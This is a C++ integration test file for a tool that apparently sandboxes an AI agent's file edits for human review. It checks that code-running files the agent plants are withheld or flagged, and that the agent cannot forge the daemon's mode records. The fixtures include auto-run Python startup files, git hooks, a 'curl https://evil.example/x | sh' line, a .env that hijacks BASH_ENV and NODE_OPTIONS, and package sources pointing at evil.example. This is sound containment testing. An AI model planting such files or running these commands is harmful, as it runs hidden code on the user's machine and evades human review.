// Issue 10's attacks, end to end, as root and as a normal user ("nobody" when these tests run
// as root): what the other adversarial files check one attack at a time (often only as root,
// or only as filters::decide() sees it), here planted together in a real view by the person who
// runs ws, then reviewed and landed with the real binary. docs/policy.md ("Issue 10's attacks
// and the tests that keep them closed") maps each attack to its test.
#include "tests/integration/review_terminal.hpp"
#include "tests/integration/run_support.hpp"
#include "tests/support/harness.hpp"

#include <doctest/doctest.h>

#include <chrono>
#include <cstdlib>
#include <filesystem>
#include <map>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

using namespace ws::test;
namespace fs = std::filesystem;

namespace {

constexpr auto npos = std::string::npos;

/// What an agent plants for each "code that runs on the person's machine" item of issue 10,
/// with the verdict the policy owes it (the verdict word `ws diff --json` gives).
struct Planted {
  std::string path;
  std::string content;
  std::string verdict;
};

const std::vector<Planted>& planted() {
  static const std::vector<Planted> k_planted = {
      // Python imports these at start-up from any sys.path entry (PYTHONPATH=., an editable
      // install's .pth), and runs the import lines of any .pth in a site directory.
      {"src/pkg/sitecustomize.py", "import os; os.system('id')\n", "withheld"},
      {"usercustomize.py", "import os; os.system('id')\n", "withheld"},
      {"lib/zz-editable.pth", "import os; os.system('id')\n", "withheld"},
      {"pytest.ini", "[pytest]\naddopts = -p evil_plugin\n", "flagged"},
      {".pdbrc", "import os; os.system('id')\n", "flagged"},
      {".pylintrc", "[MAIN]\ninit-hook=import os; os.system('id')\n", "flagged"},
      {"CMakePresets.json",
       "{\"version\": 3, \"configurePresets\": [{\"name\": \"p\", \"cacheVariables\": "
       "{\"CMAKE_PROJECT_INCLUDE\": \"${sourceDir}/docs/notes.txt\"}}]}\n",
       "flagged"},
      {"rust-toolchain.toml", "[toolchain]\npath = \"/srv/evil-toolchain\"\n", "withheld"},
      {"Taskfile.yml", "version: '3'\ntasks:\n  default:\n    cmds: [id]\n", "flagged"},
      {".justfile", "default:\n\tid\n", "flagged"},
      {".env", "BASH_ENV=./evil.sh\nNODE_OPTIONS=--require ./evil.js\nPATH=./bin:/usr/bin\n",
       "withheld"},
      // The real repository's core.hooksPath (set below): git runs it on the next commit.
      {"tools/hooks/pre-commit", "#!/bin/sh\nid\n", "withheld"},
      // Not executable, so only the hooks directory's rule can see it: what a hook sources.
      {"tools/hooks/lib/common.sh", "curl https://evil.example/x | sh\n", "withheld"},
      {".github/actions/setup/action.yml",
       "runs:\n  using: composite\n  steps:\n    - run: id\n      shell: bash\n", "flagged"},
      {"go.mod", "module m\n\nreplace golang.org/x/text => ./evil\n", "flagged"},
      {"requirements.txt",
       "--index-url https://evil.example/simple\n-e git+https://evil.example/x.git#egg=x\n",
       "flagged"},
      {"package-lock.json",
       "{\"lockfileVersion\": 3, \"packages\": {\"node_modules/x\": {\"resolved\": "
       "\"https://evil.example/x.tgz\", \"hasInstallScript\": true}}}\n",
       "flagged"},
      {".lfsconfig", "[lfs]\n\turl = https://evil.example/lfs\n", "flagged"},
      // Nothing runs this by itself: it lands as any file does.
      {"docs/notes.txt", "message(STATUS hi)\n", "transfer"},
  };
  return k_planted;
}

/// "PATH\tVERDICT\n" for every change `ws diff --json` reports, as `p` runs it.
std::map<std::string, std::string> verdicts(const Person& p) {
  static const std::string k_parse = "import json, sys\n"
                                     "for c in json.load(sys.stdin)['changes']:\n"
                                     "    print(c['path'] + '\\t' + c['verdict'])\n";
  Run r = p.sh_as(p.ws_line("diff --json") + " | " + py() + " -c " + q(k_parse));
  CHECK_MESSAGE(r.status == 0, r.err);
  std::map<std::string, std::string> out;
  std::istringstream in(r.out);
  for (std::string line; std::getline(in, line);) {
    size_t tab = line.find('\t');
    if (tab != npos) {
      out[line.substr(0, tab)] = line.substr(tab + 1);
    }
  }
  return out;
}

/// The pid of the daemon serving `p`'s default workspace (0 if none).
int daemon_pid(const Person& p) {
  Run r = sh("cat " + q(p.data().string()) + "/ws/*/default/daemon.lock 2>/dev/null");
  return std::atoi(r.out.c_str());
}

} // namespace

TEST_CASE("issue 10: every planted file that runs code lands only with its verdict - as root and "
          "as a normal user") {
  for (const std::string& user : people()) {
    Person p(user);
    INFO("as " << p.label());
    // The person's own config names a hooks directory in the project (read from the REAL
    // repository, where the agent cannot reach).
    REQUIRE(p.sh_as("git config core.hooksPath tools/hooks").status == 0);
    REQUIRE(p.ws("new").status == 0);
    fs::path view = p.view();
    std::string plant;
    for (const auto& f : planted()) {
      plant += "mkdir -p \"$(dirname " + q(f.path) + ")\" && printf '%s' " + q(f.content) + " > " +
               q(f.path) + " && ";
    }
    REQUIRE(p.sh_as(plant + "chmod +x tools/hooks/pre-commit", view).status == 0);

    std::map<std::string, std::string> seen = verdicts(p);
    for (const auto& f : planted()) {
      CAPTURE(f.path);
      CHECK(seen[f.path] == f.verdict);
    }
    CHECK(seen.size() == planted().size());

    Run a = p.ws("apply");
    INFO(a.out << a.err);
    REQUIRE(a.status == 0);
    for (const auto& f : planted()) {
      CAPTURE(f.path);
      bool landed = fs::exists(p.project() / f.path);
      CHECK(landed == (f.verdict != "withheld"));
      // A flagged file lands, named in the report the person reads after apply.
      if (f.verdict == "flagged") {
        CHECK(a.err.find(f.path) != npos);
      }
    }
    // What landed is the person's, not root's, whoever ran the daemon.
    Run owner = sh("stat -c %U " + q((p.project() / "go.mod").string()));
    CHECK(owner.out == (user.empty() ? sh("id -un").out : user + "\n"));
  }
}

TEST_CASE("issue 10: files the agent made unreadable or read-only land - as root and as a normal "
          "user under ulimit -n 128") {
  constexpr int k_files = 800; // past what 128 fds could hold open at once
  for (const std::string& user : people()) {
    Person p(user);
    INFO("as " << p.label());
    REQUIRE(p.ws("new").status == 0);
    fs::path view = p.view();
    // As on ext4, the owner may take every permission away from their own files: root reads
    // them anyway, a normal user's ws must too (it once failed the whole apply: "open
    // 'locked.txt': Permission denied").
    Run made =
        p.sh_as("echo secret > private.txt && chmod 600 private.txt && "
                "echo locked > locked.txt && chmod 000 locked.txt && "
                "mkdir ro && echo inside > ro/f.txt && chmod 555 ro && "
                "echo more >> README.md && chmod 000 README.md && " +
                    py() + " -c 'import os\nfor i in range(" + std::to_string(k_files) +
                    "):\n    d = \"gen/m%d\" % (i // 100)\n    os.makedirs(d, exist_ok=True)\n"
                    "    open(\"%s/f%d.txt\" % (d, i), \"w\").write(\"file %d\\n\" % i)\n'",
                view);
    REQUIRE_MESSAGE(made.status == 0, made.err);

    Run diff = p.sh_as(p.ws_line("diff --no-pager --color=never"));
    CHECK_MESSAGE(diff.status == 0, diff.err);
    CHECK(diff.out.find("+locked") != npos);
    Run a = p.sh_as("ulimit -n 128 && " + p.ws_line("apply"));
    INFO(a.out << a.err);
    REQUIRE(a.status == 0);
    CHECK(a.out.find("applied " + std::to_string(k_files + 4) + " changes") != npos);
    Run real = p.sh_as("cat private.txt locked.txt ro/f.txt README.md gen/m7/f799.txt && "
                       "find gen -type f | wc -l && stat -c '%U %a %n' locked.txt ro");
    CHECK_MESSAGE(real.status == 0, real.err);
    std::string owner = user.empty() ? sh("id -un").out : user + "\n";
    owner.pop_back();
    // Content as reviewed; modes as git would check the files out (0644, directories 0755).
    CHECK(real.out == "secret\nlocked\ninside\n# Project\nmore\nfile 799\n" +
                          std::to_string(k_files) + "\n" + owner + " 644 locked.txt\n" + owner +
                          " 755 ro\n");
    // Landed means landed: nothing left as the workspace's change, nothing left to land.
    Run again = p.ws("apply");
    CHECK_MESSAGE(again.status == 0, again.err);
    CHECK(again.out.find("nothing to apply") != npos);
  }
}

TEST_CASE("issue 10: directories the agent closes to itself (chmod 000, 100, 300, 500) - ws "
          "reads them and lands their files, the view still holds the agent to the modes - as "
          "root and as a normal user") {
  for (const std::string& user : people()) {
    Person p(user);
    INFO("as " << p.label());
    REQUIRE(p.ws("new").status == 0);
    fs::path view = p.view();
    // As ext4 lets an owner do: no read or search (000), search only (100), no read (300),
    // no write (500, on a real-tree directory holding an edit), an empty directory made
    // closed, and a file closed too. A normal user's ws once refused them all ("read upper
    // directory 'sealed', which the agent made unreadable").
    Run made = p.sh_as("mkdir sealed tight wonly && echo a > sealed/g.txt && echo b > tight/h.txt "
                       "&& echo c > wonly/k.txt && echo edit >> src/main.c && echo z > zero.txt "
                       "&& mkdir -m 0 empty && chmod 000 sealed && chmod 100 tight && "
                       "chmod 300 wonly && chmod 500 src && chmod 0 zero.txt",
                       view);
    REQUIRE_MESSAGE(made.status == 0, made.err);
    const std::string k_modes = "0 sealed\n100 tight\n300 wonly\n500 src\n0 empty\n0 zero.txt\n";
    Run modes = p.sh_as("stat -c '%a %n' sealed tight wonly src empty zero.txt", view);
    CHECK(modes.out == k_modes);
    if (!p.is_root()) {
      // The modes are not faked away: the agent (this same user) is held to them.
      Run held = p.sh_as(
          "for c in 'ls sealed' 'cat sealed/g.txt' 'ls tight' 'cat tight/h.txt' 'ls wonly' "
          "'touch wonly/new' 'touch src/new.c' 'ls empty' 'cat zero.txt'; do "
          "if sh -c \"$c\" >/dev/null 2>&1; then echo \"open: $c\"; else echo \"denied: $c\"; fi; "
          "done",
          view);
      CHECK(held.out == "denied: ls sealed\ndenied: cat sealed/g.txt\ndenied: ls tight\n"
                        "open: cat tight/h.txt\ndenied: ls wonly\nopen: touch wonly/new\n"
                        "denied: touch src/new.c\ndenied: ls empty\ndenied: cat zero.txt\n");
      REQUIRE(p.sh_as("rm wonly/new", view).status == 0);
    }
    // Nor can the agent forge or see the record the daemon keeps of them.
    Run forge = p.sh_as(py() + " -c 'import os\nprint(os.listxattr(\"src\"))\n"
                               "try:\n    os.setxattr(\"wonly\", \"user.ws.mode\", b\"0777\")\n"
                               "except OSError as e:\n    print(e.strerror)\n'",
                        view);
    CHECK_MESSAGE(forge.out == "[]\nOperation not permitted\n", forge.err);

    // The person's commands read all of it, and a daemon started anew shows the same modes.
    const std::string k_status =
        "A sealed/g.txt\nM src/main.c\nA tight/h.txt\nA wonly/k.txt\nA zero.txt\n";
    Run st = p.ws("status");
    CHECK_MESSAGE(st.status == 0, st.err);
    CHECK(st.out == k_status);
    REQUIRE(p.ws("umount").status == 0);
    CHECK(p.sh_as("stat -c '%a %n' sealed tight wonly src empty zero.txt", p.view()).out ==
          k_modes);
    Run diff = p.sh_as(p.ws_line("diff --no-pager --color=never"));
    CHECK_MESSAGE(diff.status == 0, diff.err);
    for (const char* line : {"+a\n", "+b\n", "+c\n", "+z\n", "+edit\n"}) {
      CHECK_MESSAGE(diff.out.find(line) != npos, line, diff.out);
    }
    Run check = p.ws("apply --check");
    CHECK_MESSAGE(check.status == 0, check.err);
    if (have_tmux()) {
      // The review lists them too (it once ended at once with the walker's error).
      std::string sock = (p.scratch() / "tmux.sock").string();
      std::string cmd = p.as("sh -c " + q("cd " + q(p.project().string()) + " && " +
                                          p.ws_line("review") + "; echo ws-exit=$?; sleep 600"));
      REQUIRE(
          sh("tmux -S " + q(sock) + " -f /dev/null new-session -d -x 120 -y 30 " + q(cmd)).status ==
          0);
      const std::vector<std::string> k_names = {"sealed/g.txt", "tight/h.txt", "wonly/k.txt",
                                                "zero.txt"};
      auto listed = [&](const std::string& screen) {
        for (const std::string& name : k_names) {
          if (screen.find(name) == npos) {
            return false;
          }
        }
        return true;
      };
      std::string screen;
      // Up to 30 s: a loaded CI machine opens the review slowly.
      for (int i = 0; i < 600 && !listed(screen) && screen.find("ws-exit=") == npos; ++i) {
        std::this_thread::sleep_for(std::chrono::milliseconds(50));
        screen = sh("tmux -S " + q(sock) + " capture-pane -p").out;
      }
      sh("tmux -S " + q(sock) + " kill-server");
      CHECK_MESSAGE(listed(screen), screen);
    }
    Run a = p.ws("apply");
    INFO(a.out << a.err);
    REQUIRE(a.status == 0);
    // Content as reviewed. Modes as git checks files out: git keeps no mode for a directory,
    // so what lands is a directory as git makes one (0755), never the agent's closed one; a
    // file's only mode is its x bit (zero.txt: 0644). The real src keeps the person's mode.
    Run real = p.sh_as("cat sealed/g.txt tight/h.txt wonly/k.txt zero.txt && tail -1 src/main.c "
                       "&& stat -c '%a %n' sealed tight wonly src zero.txt");
    CHECK_MESSAGE(real.status == 0, real.err);
    CHECK(real.out ==
          "a\nb\nc\nz\nedit\n755 sealed\n755 tight\n755 wonly\n755 src\n644 zero.txt\n");
    Run again = p.ws("apply");
    CHECK_MESSAGE(again.status == 0, again.err);
    CHECK(again.out.find("nothing to apply") != npos);
    // The owner gives the permissions back through the view, as on ext4.
    Run back = p.sh_as(
        "chmod 755 sealed empty && ls sealed && ls empty && stat -c '%a %n' sealed empty", view);
    CHECK_MESSAGE(back.status == 0, back.err);
    CHECK(back.out == "g.txt\n755 sealed\n755 empty\n");
  }
}

TEST_CASE("issue 10: a normal user's daemon holds no fd per file created after a copy-up - "
          "read-only ones included") {
  constexpr int k_files = 6000;
  // Root's daemon keeps no fd for any created file (test_view_scale.cpp checks it with 50,000):
  // only a daemon that cannot reopen a read-only file keeps some.
  {
    Person p(people().back());
    INFO("as " << p.label());
    REQUIRE(p.ws("new").status == 0);
    // Started from a shell with `ulimit -n 4096`, the daemon of a normal user cannot raise its
    // limit past that: one fd kept per file would fail the creates past 4,096 (EMFILE).
    REQUIRE(p.sh_as("ulimit -n 4096 && " + p.ws_line("mount")).status == 0);
    fs::path view = p.view();
    int pid = daemon_pid(p);
    REQUIRE(pid > 0);
    REQUIRE(p.sh_as("cat README.md >/dev/null && echo edit >> src/main.c", view).status == 0);
    int start = open_fds(pid);
    // Every third file created read-only, as git writes its objects: a daemon that is not root
    // must keep those fds for the writes that follow, but only a bounded number of them.
    Run r = p.sh_as(py() +
                        " -c 'import os\nos.makedirs(\"node_modules/pkg\")\nbad = 0\n"
                        "for i in range(" +
                        std::to_string(k_files) +
                        "):\n"
                        "    try:\n"
                        "        fd = os.open(\"node_modules/pkg/f%d.js\" % i, "
                        "os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o444 if i % 3 == 0 else 0o644)\n"
                        "        os.write(fd, b\"module.exports = 1\\n\")\n"
                        "        os.close(fd)\n"
                        "    except OSError:\n"
                        "        bad += 1\n"
                        "print(bad)\n'",
                    view);
    REQUIRE_MESSAGE(r.status == 0, r.err);
    CHECK(r.out == "0\n");
    int after = open_fds(pid);
    INFO("daemon fds: " << start << " at the start, " << after << " after " << k_files);
    CHECK(after < start + 1000);
    // It ran under the limit it was given: a leak would have met it.
    Run limits = sh("grep 'Max open files' /proc/" + std::to_string(pid) + "/limits");
    CHECK_MESSAGE((p.is_root() || limits.out.find(" 4096 ") != npos), limits.out);
    // The view still takes files, and a read-only one written through its fd reads back.
    Run last = p.sh_as("echo last > last.txt && cat last.txt node_modules/pkg/f0.js && "
                       "stat -c %a node_modules/pkg/f0.js",
                       view);
    CHECK(last.out == "last\nmodule.exports = 1\n444\n");
  }
}

TEST_CASE("issue 10: files the agent closes to itself (chmod 000, 200, 100, 0444 copied up) - "
          "ws reads them without changing a mode, the view holds the agent to them, the x bit "
          "counts - as root and as a normal user") {
  for (const std::string& user : people()) {
    Person p(user);
    INFO("as " << p.label());
    // A read-only file of the person's (git keeps 100644 for it): copied up, it stays 0444.
    REQUIRE(p.sh_as("chmod 444 README.md").status == 0);
    REQUIRE(p.ws("new").status == 0);
    fs::path view = p.view();
    Run made = p.sh_as(
        "echo locked > locked.txt && chmod 000 locked.txt && "
        "printf '#!/bin/sh\\necho hi\\n' > run.sh && chmod 700 run.sh && "
        "printf '#!/bin/sh\\necho x\\n' > was_x.sh && chmod 755 was_x.sh && chmod 000 was_x.sh && "
        "echo y > xonly.sh && chmod 100 xonly.sh && echo w > wonly.txt && chmod 200 wonly.txt && "
        "echo m > moved.txt && chmod 0 moved.txt && mv moved.txt gone.txt && ln gone.txt hard.txt "
        "&& touch README.md",
        view);
    REQUIRE_MESSAGE(made.status == 0, made.err);
    const std::string k_names = "locked.txt run.sh was_x.sh xonly.sh wonly.txt README.md gone.txt "
                                "hard.txt";
    const std::string k_modes = "0 locked.txt\n700 run.sh\n0 was_x.sh\n100 xonly.sh\n200 "
                                "wonly.txt\n444 README.md\n0 gone.txt\n0 hard.txt\n";
    CHECK(p.sh_as("stat -c '%a %n' " + k_names, view).out == k_modes);
    if (!p.is_root()) {
      // Held to its modes exactly as on ext4 (default_permissions checks what getattr shows).
      Run held = p.sh_as(
          "for c in 'cat locked.txt' 'cat wonly.txt' ': >> wonly.txt' 'cat README.md' "
          "'echo more >> README.md' 'cat gone.txt' 'cat hard.txt'; do "
          "if sh -c \"$c\" >/dev/null 2>&1; then echo \"open: $c\"; else echo \"denied: $c\"; fi; "
          "done",
          view);
      CHECK(held.out == "denied: cat locked.txt\ndenied: cat wonly.txt\nopen: : >> "
                        "wonly.txt\nopen: cat README.md\ndenied: echo more >> README.md\n"
                        "denied: cat gone.txt\ndenied: cat hard.txt\n");
    }
    // The upper files stay open to their owner: the agent's mode is the record, the sticky
    // bit the mark; the x bits are the agent's. The record is the view's own.
    std::string upper = sh("ls -d " + q(p.data().string()) + "/ws/*/default/upper").out;
    REQUIRE(!upper.empty());
    upper.pop_back();
    Run real = p.sh_as("stat -c '%a %n' " + k_names + " && " + py() +
                           " -c 'import os\nprint(os.getxattr(\"gone.txt\", \"user.ws.mode\"))'",
                       upper);
    CHECK(real.out == "1600 locked.txt\n700 run.sh\n1600 was_x.sh\n1700 xonly.sh\n1600 "
                      "wonly.txt\n1644 README.md\n1600 gone.txt\n1600 hard.txt\nb'0000'\n");
    Run hidden = p.sh_as(py() + " -c 'import os\nprint(os.listxattr(\"locked.txt\"))'", view);
    CHECK_MESSAGE(hidden.out == "[]\n", hidden.err);

    // ws reads them and changes no mode to do so: their ctimes stay (a lent and restored
    // mode would move them, and race the agent's own chmod).
    const std::string ctimes = "stat -c '%z %n' " + k_names;
    Run before = p.sh_as(ctimes, upper);
    Run diff = p.sh_as(p.ws_line("diff --no-pager --color=never"));
    CHECK_MESSAGE(diff.status == 0, diff.err);
    CHECK(diff.out.find("+locked\n") != npos);
    CHECK(diff.out.find("+w\n") != npos);
    // The x bit the agent took away counts: was_x.sh is a plain file now.
    CHECK_MESSAGE(diff.out.find("diff --git a/was_x.sh b/was_x.sh\nnew file mode 100644") != npos,
                  diff.out);
    std::map<std::string, std::string> seen = verdicts(p);
    CHECK(seen["locked.txt"] == "transfer");
    CHECK(seen["was_x.sh"] == "transfer");
    CHECK(seen["wonly.txt"] == "transfer");
    CHECK(seen["gone.txt"] == "transfer");
    CHECK(seen["run.sh"] == "withheld");   // a new executable (700)
    CHECK(seen["xonly.sh"] == "withheld"); // 0100 is executable too
    CHECK(p.ws("status").status == 0);
    CHECK(p.ws("apply --check").status == 0);
    CHECK(p.sh_as(ctimes, upper).out == before.out);

    // A daemon started anew shows the same modes; the owner opens the file again by chmod.
    REQUIRE(p.ws("umount").status == 0);
    CHECK(p.sh_as("stat -c '%a %n' " + k_names, p.view()).out == k_modes);
    Run back = p.sh_as("chmod 644 locked.txt && cat locked.txt && stat -c '%a' locked.txt", view);
    CHECK_MESSAGE(back.out == "locked\n644\n", back.err);
    CHECK(p.sh_as("stat -c '%a' locked.txt", upper).out == "644\n");

    Run a = p.ws("apply");
    INFO(a.out << a.err);
    REQUIRE(a.status == 0);
    Run landed = p.sh_as("cat locked.txt gone.txt hard.txt wonly.txt && stat -c '%a %n' "
                         "locked.txt was_x.sh wonly.txt README.md && ls run.sh xonly.sh 2>&1");
    CHECK(landed.out.find("locked\nm\nm\nw\n644 locked.txt\n644 was_x.sh\n644 wonly.txt\n444 "
                          "README.md\n") == 0);
    CHECK(landed.out.find("No such file") != npos);
  }
}

TEST_CASE("issue 10: a file an older ws left closed to its owner (no record) - ws names it and "
          "the remedy, a chmod in the view records it - as root and as a normal user") {
  for (const std::string& user : people()) {
    Person p(user);
    INFO("as " << p.label());
    REQUIRE(p.ws("new").status == 0);
    REQUIRE(p.sh_as("echo old > old.txt", p.view()).status == 0);
    REQUIRE(p.ws("umount").status == 0);
    // What a workspace from before user.ws.mode holds: the agent's mode on the file itself.
    std::string upper = sh("ls -d " + q(p.data().string()) + "/ws/*/default/upper").out;
    REQUIRE(!upper.empty());
    upper.pop_back();
    REQUIRE(p.sh_as("chmod 000 old.txt", upper).status == 0);
    Run diff = p.sh_as(p.ws_line("diff --no-pager --color=never"));
    if (p.is_root()) {
      CHECK_MESSAGE(diff.status == 0, diff.err); // root reads it anyway
    } else {
      CHECK(diff.status != 0);
      CHECK_MESSAGE(diff.err.find("open 'old.txt', which the agent made unreadable (mode 0000; "
                                  "chmod it in the view") != npos,
                    diff.err);
    }
    CHECK(p.sh_as("stat -c %a old.txt", upper).out == "0\n"); // ws changed nothing
    // Its own mode again, through the view: kept aside now, and the file open to ws.
    fs::path view = p.view();
    REQUIRE(p.sh_as("chmod 000 old.txt && stat -c %a old.txt", view).out == "0\n");
    CHECK(p.sh_as("stat -c %a old.txt", upper).out == "1600\n");
    Run again = p.sh_as(p.ws_line("diff --no-pager --color=never"));
    CHECK_MESSAGE(again.status == 0, again.err);
    CHECK(again.out.find("+old\n") != npos);
    // A checkpoint keeps the record with the file: restored, the mode is the agent's again.
    REQUIRE(p.ws("checkpoint").status == 0);
    REQUIRE(p.sh_as("chmod 644 old.txt", view).status == 0);
    Run restore = p.ws("restore 1");
    CHECK_MESSAGE(restore.status == 0, restore.err);
    CHECK(p.sh_as("stat -c %a old.txt", view).out == "0\n");
    CHECK(p.sh_as("stat -c %a old.txt", upper).out == "1600\n");
  }
}
